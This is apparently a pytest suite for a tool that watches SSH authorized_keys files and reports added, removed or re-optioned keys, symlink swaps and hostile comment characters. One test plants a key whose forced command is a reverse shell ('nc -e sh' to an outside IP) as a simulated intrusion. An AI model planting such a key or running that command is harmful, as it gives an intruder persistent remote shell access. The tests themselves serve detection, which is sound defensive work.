"""authorized_keys as sshd reads it, and one finding per key added, removed or re-optioned: real files, edited
with echo >>, sed -i and chmod as a person or an intruder would."""

import base64
import os
import shutil
import struct
import subprocess
from pathlib import Path
from typing import Iterator, List

import pytest

from app.watch.findings import Finding, when
from app.watch.keywatch import KeyEntry, carry_unreadable, key_changes, key_files, parse_key_line, snapshot_keys
from app.rules.keys import fingerprint
from support.tamper import append_line, as_reader, sed_in_place, set_mtime, shared_home

CHANGED = 1700000000.0
NOW = 1700000600.0


def blob(key_type: str, seed: int = 1) -> str:
    """A public key blob of key_type (the type string, then key bytes), base64 as in authorized_keys."""
    def string(data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + data

    extra = string(b"ssh:") if key_type.startswith("sk-") else b""
    return base64.b64encode(string(key_type.encode()) + string(bytes([seed]) * 32) + extra).decode("ascii")


ALICE = "ssh-ed25519 {} alice@laptop".format(blob("ssh-ed25519", 1))
BOB = "ssh-ed25519 {} bob@desk".format(blob("ssh-ed25519", 2))
EVIL_BLOB = blob("ssh-ed25519", 66)


@pytest.fixture
def home() -> Iterator[Path]:
    with shared_home() as home:
        (home / ".ssh").mkdir()
        yield home


@pytest.fixture
def keys_file(home: Path) -> Path:
    path = home / ".ssh" / "authorized_keys"
    path.write_text(ALICE + "\n" + BOB + "\n", encoding="utf-8")
    return path


def snapshot(home: Path) -> dict:
    files = key_files(home)
    return as_reader(lambda: snapshot_keys(files))


def kinds(findings: List[Finding]) -> List[str]:
    return [finding.kind for finding in findings]


# --- parsing -------------------------------------------------------------------------------------------

def test_options_are_split_at_commas_outside_quotes_and_the_comment_keeps_its_spaces() -> None:
    line = 'command="echo a,b",from="10.0.0.0/8",restrict ssh-ed25519 {} comment here'.format(blob("ssh-ed25519"))
    assert parse_key_line(line, "f") == KeyEntry("ssh-ed25519", fingerprint(blob("ssh-ed25519")), "comment here",
                                                 ('command="echo a,b"', 'from="10.0.0.0/8"', "restrict"), "f")


def test_an_escaped_quote_inside_an_option_does_not_end_it() -> None:
    line = r'command="echo \"a b\", c",no-pty ssh-ed25519 {} x'.format(blob("ssh-ed25519"))
    entry = parse_key_line(line)
    assert entry is not None and entry.options == (r'command="echo \"a b\", c"', "no-pty")
    assert entry.comment == "x"


@pytest.mark.parametrize("key_type", ["ssh-ed25519", "sk-ssh-ed25519@openssh.com", "ecdsa-sha2-nistp256",
                                      "sk-ecdsa-sha2-nistp256@openssh.com", "ssh-rsa"])
def test_a_line_starting_with_its_key_type_has_no_options(key_type: str) -> None:
    entry = parse_key_line("{} {}".format(key_type, blob(key_type)))
    assert entry == KeyEntry(key_type, fingerprint(blob(key_type)), "", (), "")


def test_cert_authority_is_an_option() -> None:
    entry = parse_key_line("cert-authority,principals=\"root,admin\" ssh-ed25519 {} ca".format(blob("ssh-ed25519")))
    assert entry is not None and entry.options == ("cert-authority", 'principals="root,admin"')


@pytest.mark.parametrize("line", ["", "   ", "# ssh-ed25519 {}".format(blob("ssh-ed25519")),
                                  "  #ssh-ed25519 {} old".format(blob("ssh-ed25519")),
                                  "ssh-rsa {} type and blob disagree".format(blob("ssh-ed25519")),
                                  "restrict ssh-ed25519 not-base64!", "garbage"])
def test_blank_comment_and_broken_lines_are_not_keys(line: str) -> None:
    assert parse_key_line(line) is None


@pytest.mark.parametrize("key_type", ["ed25519", "ecdsa", "rsa"])
def test_fingerprints_behind_options_are_what_ssh_keygen_prints(tmp_path: Path, key_type: str) -> None:
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen is not installed")
    key = tmp_path / "key"
    subprocess.run([keygen, "-t", key_type, "-N", "", "-C", "alice@laptop", "-f", str(key), "-q"], check=True,
                   stdin=subprocess.DEVNULL, timeout=60)
    printed = subprocess.run([keygen, "-lf", str(key) + ".pub"], check=True, capture_output=True, text=True,
                             timeout=30).stdout.split()[1]
    line = 'from="10.0.0.0/8",command="uptime" ' + (tmp_path / "key.pub").read_text(encoding="ascii")
    entry = parse_key_line(line)
    assert entry is not None and entry.fingerprint == printed and entry.comment == "alice@laptop"


# --- which files ---------------------------------------------------------------------------------------

def test_key_files_are_the_defaults_plus_authorized_keys_file_with_its_tokens(tmp_path: Path) -> None:
    home = tmp_path / "alice"
    sshd_t = "port 22\nauthorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u %h/extra_%%_%u none\n"
    assert key_files(home, sshd_t, user="alice") == [
        home / ".ssh/authorized_keys", home / ".ssh/authorized_keys2", Path("/etc/ssh/keys/alice"),
        home / "extra_%_alice"]


def test_key_files_read_sshd_config_syntax_including_match_blocks(tmp_path: Path) -> None:
    home = tmp_path / "alice"
    config = ("# AuthorizedKeysFile /commented/out\nAuthorizedKeysFile=\"keys dir/%u\"\n"
              "Match User alice\n  authorizedKeysFile /srv/keys/%U %x/unknown-token\n")
    assert key_files(home, config, user="alice") == [
        home / ".ssh/authorized_keys", home / ".ssh/authorized_keys2", home / "keys dir/alice",
        Path("/srv/keys/{}".format(os.getuid()))]


# --- changes -------------------------------------------------------------------------------------------

def test_first_run_records_keys_without_findings(home: Path, keys_file: Path) -> None:
    current = snapshot(home)
    assert sorted(current["keys"]) == sorted([fingerprint(blob("ssh-ed25519", 1)), fingerprint(blob("ssh-ed25519", 2))])
    assert current["files"][str(keys_file)]["state"] == "ok"
    assert key_changes(None, current, NOW) == [] and key_changes({}, current, NOW) == []


def test_adding_a_key_with_a_forced_command_names_its_options(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    append_line(keys_file, 'command="/bin/sh -c \\"nc -e sh 1.2.3.4 80\\"",no-pty ssh-ed25519 {} evil'.format(
        EVIL_BLOB))
    set_mtime(keys_file, CHANGED)
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-added"]
    added = findings[0]
    assert added.urgent and fingerprint(EVIL_BLOB) in added.title and '"evil"' in added.title
    assert 'command="/bin/sh -c \\"nc -e sh 1.2.3.4 80\\"",no-pty' in added.title
    for part in ("ssh-ed25519 " + fingerprint(EVIL_BLOB), "Comment: evil", str(keys_file), when(CHANGED),
                 "Options: command="):
        assert part in added.text


def test_removing_a_key_with_sed_names_it_and_the_file_time(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    sed_in_place(keys_file, lambda line: None if "bob@desk" in line else line)
    set_mtime(keys_file, CHANGED)
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-removed"] and not findings[0].urgent
    assert "bob@desk" in findings[0].title and when(CHANGED) in findings[0].text


def test_removing_a_forced_command_is_an_options_change(home: Path, keys_file: Path) -> None:
    keys_file.write_text('command="backup.sh",restrict {}\n'.format(BOB), encoding="utf-8")
    before = snapshot(home)
    sed_in_place(keys_file, lambda line: line.replace('command="backup.sh",restrict ', ""))
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-options"] and findings[0].urgent
    assert "Options: none" in findings[0].text
    assert 'Options before: command="backup.sh",restrict' in findings[0].text


def test_changing_only_a_comment_is_not_a_finding(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    sed_in_place(keys_file, lambda line: line.replace("bob@desk", "bob@new-desk"))
    assert key_changes(before, snapshot(home), NOW) == []


def test_same_change_is_reported_once(home: Path, keys_file: Path) -> None:
    first = snapshot(home)
    append_line(keys_file, "ssh-ed25519 {} evil".format(EVIL_BLOB))
    second = snapshot(home)
    reported = key_changes(first, second, NOW)
    assert kinds(reported) == ["key-added"]
    assert key_changes(first, second, NOW) == reported  # a rerun after a crash: the same key
    assert key_changes(second, snapshot(home), NOW) == []
    sed_in_place(keys_file, lambda line: None if "evil" in line else line)
    third = dict(snapshot(home), changed=NOW)
    append_line(keys_file, "ssh-ed25519 {} evil".format(EVIL_BLOB))
    again = key_changes(third, snapshot(home), NOW + 60)
    assert kinds(again) == ["key-added"] and again[0].key != reported[0].key


def test_unreadable_authorized_keys_is_not_reported_as_every_key_removed(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    keys_file.chmod(0o000)
    hidden = snapshot(home)
    findings = key_changes(before, hidden, NOW)
    assert kinds(findings) == ["key-file"]
    assert findings[0].urgent and "run: chmod 644 " + str(keys_file) in findings[0].text
    kept = carry_unreadable(before, hidden)
    assert kept["keys"] == before["keys"]
    assert key_changes(kept, snapshot(home), NOW) == []  # still unreadable: nothing new
    keys_file.chmod(0o644)
    append_line(keys_file, "ssh-ed25519 {} evil".format(EVIL_BLOB))
    assert kinds(key_changes(kept, snapshot(home), NOW)) == ["key-added"]


def test_authorized_keys_replaced_by_a_symlink_is_one_finding_not_a_follow(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    planted = home / "planted"
    planted.write_text("ssh-ed25519 {} evil\n".format(EVIL_BLOB), encoding="utf-8")
    keys_file.unlink()
    keys_file.symlink_to(planted)
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-file"] and "a symbolic link" in findings[0].title


def test_a_key_file_over_the_size_cap_keeps_its_keys(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    append_line(keys_file, "#" * (1024 * 1024))
    append_line(keys_file, "ssh-ed25519 {} hidden-after-padding".format(EVIL_BLOB))
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-file"] and "too large" in findings[0].title


def test_a_key_in_authorized_keys2_is_watched(home: Path, keys_file: Path) -> None:
    before = snapshot(home)
    second = home / ".ssh" / "authorized_keys2"
    append_line(second, "ssh-ed25519 {} evil".format(EVIL_BLOB))
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-added"] and str(second) in findings[0].title


@pytest.mark.parametrize("hostile", ["evil\rnext", "\u202etxt.exe", "\x1b[2Jcleared", "a\u2028b", "tab\there"])
def test_hostile_comments_arrive_printable(home: Path, keys_file: Path, hostile: str) -> None:
    before = snapshot(home)
    with open(str(keys_file), "a", encoding="utf-8", newline="") as handle:
        handle.write('command="x\x1by" ssh-ed25519 {} {}\n'.format(EVIL_BLOB, hostile))
    findings = key_changes(before, snapshot(home), NOW)
    assert kinds(findings) == ["key-added"]
    for text in (findings[0].title, findings[0].text.replace("\n", "")):
        assert not any(character in text for character in "\r\x1b\u202e\u2028\t")
    assert "\\x1b" in findings[0].title
